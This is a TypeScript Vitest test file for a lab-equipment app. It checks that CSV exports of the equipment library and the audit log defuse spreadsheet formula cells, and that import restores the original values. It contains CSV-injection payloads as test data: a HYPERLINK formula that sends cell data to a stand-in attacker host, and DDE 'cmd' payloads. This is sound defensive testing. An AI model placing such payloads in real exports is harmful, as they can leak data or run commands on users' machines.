import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildTestApp, demo, signIn, type Client, type TestApp } from '../test-support/test-app';

let t: TestApp;
let labId: number;
let qa: Client;
beforeEach(async () => {
  t = await buildTestApp();
  labId = (await t.db('labs').first()).id;
  qa = await signIn(t.app, demo('qa'));
});
afterEach(async () => {
  await t.close();
});
const url = (path: string) => `/api/labs/${labId}${path}`;

/** Cells a spreadsheet would run as formulas (the OWASP Foundation's "CSV Injection" page, from memory: = + - @, tab and carriage return first). */
const HOSTILE = {
  description: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  certificateReference: "@SUM(1+9)*cmd|' /C calc'!A0",
};
const flask = {
  code: 'T-VF-50',
  nominalMl: 50,
  glassClass: 'A',
  toleranceMl: 0.06,
  toleranceDistribution: null,
  fillRepeatabilityMl: 0.015,
  calibrationTemperatureC: 20,
  ...HOSTILE,
};

describe('CSV exports neutralise formula cells', () => {
  it('prefixes formula cells in the library export with an apostrophe, and its import takes the prefix off again', async () => {
    await qa.post(url('/equipment'), { kind: 'flask', data: flask }).expect(201);
    const csv = (await qa.get(url('/equipment-csv/export?kind=flask')).expect(200)).text;
    const rows: Record<string, string>[] = parse(csv, { columns: true });
    const row = rows.find((r) => r.code === 'T-VF-50');
    expect(row?.description).toBe(`'${HOSTILE.description}`);
    expect(row?.certificate_reference).toBe(`'${HOSTILE.certificateReference}`);
    expect(row?.nominal_ml).toBe('50');

    const again = (await qa.post(url('/equipment-csv/import'), { kind: 'flask', csv, dryRun: true }).expect(200)).body;
    expect(again.rows.find((r: { code: string }) => r.code === 'T-VF-50')).toMatchObject({
      action: 'unchanged',
      errors: [],
    });
  });

  it('prefixes cells that start with + or - as well', async () => {
    for (const [code, description] of [
      ['T-1', '+1+1'],
      ['T-2', '-2+3'],
      ['T-5', 'plain text'],
    ] as const) {
      await qa
        .post(url('/equipment'), { kind: 'flask', data: { ...flask, ...HOSTILE, code, description } })
        .expect(201);
    }
    const rows: Record<string, string>[] = parse(
      (await qa.get(url('/equipment-csv/export?kind=flask')).expect(200)).text,
      { columns: true },
    );
    const description = (code: string) => rows.find((r) => r.code === code)?.description;
    expect([description('T-1'), description('T-2'), description('T-5')]).toEqual(["'+1+1", "'-2+3", 'plain text']);
  });

  it('prefixes formula cells in the audit CSV (an actor name and the summary that starts with it)', async () => {
    await t
      .db('users')
      .where({ email: demo('qa') })
      .update({ name: "=2+5+cmd|' /C calc'!A0" });
    await qa
      .post(url('/equipment'), {
        kind: 'flask',
        data: { ...flask, description: 'ok', certificateReference: undefined },
      })
      .expect(201);
    const csv = (await qa.get(url('/audit-events.csv')).expect(200)).text;
    const rows: Record<string, string>[] = parse(csv, { columns: true });
    const created = rows.find((r) => r.action === 'library.created');
    expect(created?.actor).toBe("'=2+5+cmd|' /C calc'!A0");
    expect(created?.summary.startsWith("'=2+5")).toBe(true);
    const risky = rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky).toEqual([]);
  });
});
